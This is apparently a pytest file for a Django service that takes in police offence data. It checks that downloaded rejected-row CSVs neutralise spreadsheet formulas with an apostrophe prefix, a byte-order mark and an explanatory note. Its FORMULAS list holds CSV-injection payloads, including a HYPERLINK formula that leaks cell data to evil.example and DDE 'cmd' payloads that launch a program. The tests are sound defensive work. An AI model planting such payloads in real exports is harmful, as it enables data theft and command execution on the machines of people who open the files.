"""The rejected-rows CSV a supplier, DLO or co-ordinator opens in Excel: formulas neutralised
by the extracts' own rule, a byte-order mark, a first line saying how, the field at fault and
the supplier's own column names."""

from __future__ import annotations

import codecs
import csv
import io

import pytest
from django.test import Client

from datasets.models import Supply
from datasets.rejected_rows import rejected_rows_path
from datasets.spreadsheets import FORMULA_STARTS, NEUTRALISED_NOTE, neutralise_cell
from hub.crypto import unwrap_key, write_encrypted
from tests.conftest import sign_in
from tests.datasets.test_pipeline import (
    csv_bytes,
    offence_rows,
    supply,
    wait_for,
    world,  # noqa: F401 - the fixture, shared with the pipeline's tests
)

pytestmark = [pytest.mark.worker, pytest.mark.django_db(transaction=True)]

# The supplier's own header: aliases of the schema's fields, one of them hostile itself.
HEADER = [
    "Crime Number", "HO offence code", "Date committed from", "Time committed from",
    "@Address", "postcode", "easting", "northing", "flag_domestic", "Property stolen",
]  # fmt: skip
FORMULAS = [
    '=HYPERLINK("http://evil.example/?leak="&A2,"Click")',
    "@SUM(1)",
    "=cmd|' /C calc'!A0",
    "+F2",
    "-2+3+cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
]


def download(user, supply_id) -> bytes:
    client = Client()
    sign_in(client, user)
    response = client.get(f"/supplies/{supply_id}/rejected.csv")
    assert response.status_code == 200
    assert response["Content-Type"] == "text/csv; charset=utf-8"
    return b"".join(response.streaming_content)


def read(content: bytes) -> tuple[list[str], list[dict[str, str]]]:
    """The file's first (explanatory) line, and its rows by column."""
    assert content.startswith(codecs.BOM_UTF8)
    lines = list(csv.reader(io.StringIO(content[len(codecs.BOM_UTF8) :].decode("utf-8"))))
    header, rows = lines[1], lines[2:]
    return lines[0], [dict(zip(header, row, strict=True)) for row in rows]


def hostile_rows() -> list[list[str]]:
    """One row per formula, each rejected for its date, which is the formula; the row's
    address and property stolen are formulas too. A last row that loads."""
    rows = [[*row, "Phone worth £40"] for row in offence_rows(len(FORMULAS) + 1)]
    for row, formula in zip(rows, FORMULAS, strict=False):
        row[2] = formula  # Date committed from
        row[4] = formula  # @Address
        row[9] = formula + " and £40"  # Property stolen
    return rows


def test_formulas_come_out_neutralised_with_bom_and_the_suppliers_headers(api_client, world):  # noqa: F811
    rows = hostile_rows()
    supply_id = supply(api_client, world["police_supplier"], csv_bytes(HEADER, rows))
    body = wait_for(api_client, supply_id)
    assert (body["status"], body["rejected_count"]) == ("completed", len(FORMULAS))

    note, rejected = read(download(world["police_supplier"], supply_id))

    assert note == [NEUTRALISED_NOTE]
    assert "apostrophe (')" in NEUTRALISED_NOTE
    assert list(rejected[0]) == [
        "row", "field", "problems", "Crime Number", "HO offence code", "Date committed from",
        "Time committed from", "'@Address", "postcode", "easting", "northing", "flag_domestic",
        "Property stolen",
    ]  # fmt: skip
    assert [row["row"] for row in rejected] == [str(n) for n in range(2, 2 + len(FORMULAS))]
    for row, formula in zip(rejected, FORMULAS, strict=True):
        assert row["field"] == "Date committed from"
        assert "is not a date" in row["problems"]
        assert row["Date committed from"] == "'" + formula
        assert row["'@Address"] == "'" + formula
        assert row["Property stolen"] == "'" + formula + " and £40"
    assert {row["Crime Number"] for row in rejected} == {r[0] for r in rows[: len(FORMULAS)]}
    cells = [cell for row in rejected for cell in (*row, *row.values())]
    assert not [cell for cell in cells if cell.startswith(FORMULA_STARTS)]

    report = api_client.get(f"/api/v1/supplies/{supply_id}/report/").json()
    assert report["header_mapping"]["Crime Number"] == "crime_ref"
    assert report["header_mapping"]["@Address"] == "address"
    assert {error["field"] for error in report["errors"]} == {"committed_from_date"}


def test_the_field_at_fault_is_named_as_in_the_suppliers_file(api_client, world):  # noqa: F811
    rows = [[*row, "Phone worth £40"] for row in offence_rows(4)]
    rows[1][0] = rows[0][0]  # row 3: repeats row 2's crime number
    rows[2][1] = ""  # row 4: no offence code...
    rows[2][3] = "25:99"  # ...and no such time
    supply_id = supply(api_client, world["police_supplier"], csv_bytes(HEADER, rows))
    assert wait_for(api_client, supply_id)["rejected_count"] == 2

    _, rejected = read(download(world["dlo_police"], supply_id))

    assert [(row["row"], row["field"]) for row in rejected] == [
        ("3", "Crime Number"),
        ("4", "HO offence code; Time committed from"),
    ]
    assert rejected[1]["Property stolen"] == "Phone worth £40"


def test_a_file_kept_from_before_the_rule_is_neutralised_on_the_way_out(api_client, world):  # noqa: F811
    """The rule is applied as the file goes out: a stored file whose values were never
    neutralised (or a writer that skipped the rule) still reaches Excel safe."""
    rows = hostile_rows()
    supply_id = supply(api_client, world["police_supplier"], csv_bytes(HEADER, rows))
    wait_for(api_client, supply_id)
    saved = Supply.objects.get(pk=supply_id)
    path = rejected_rows_path(saved)
    path.unlink()
    raw = csv_bytes(["row", "problems", "+crime_ref"], [["2", formula, formula] for formula in
                                                         FORMULAS])  # fmt: skip
    write_encrypted(path, raw, unwrap_key(bytes(saved.data_key_wrapped)))

    note, rejected = read(download(world["police_supplier"], supply_id))

    assert note == [NEUTRALISED_NOTE]
    assert list(rejected[0]) == ["row", "problems", "'+crime_ref"]
    assert [row["problems"] for row in rejected] == [neutralise_cell(f) for f in FORMULAS]
    assert all(row["'+crime_ref"] == "'" + f for row, f in zip(rejected, FORMULAS, strict=True))
